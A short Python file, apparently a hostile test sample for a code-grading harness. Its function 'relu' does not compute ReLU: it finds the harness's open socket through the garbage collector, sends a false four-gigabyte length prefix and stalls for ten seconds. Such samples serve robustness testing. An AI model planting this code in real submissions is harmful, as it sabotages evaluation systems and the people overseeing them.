"""Announces a reply of four gigabytes."""

import gc
import socket
import time

CONNECTION = next(thing for thing in gc.get_objects() if type(thing) is socket.socket)


def relu(z):
    CONNECTION.sendall(b"\xff\xff\xff\xff")
    time.sleep(10)
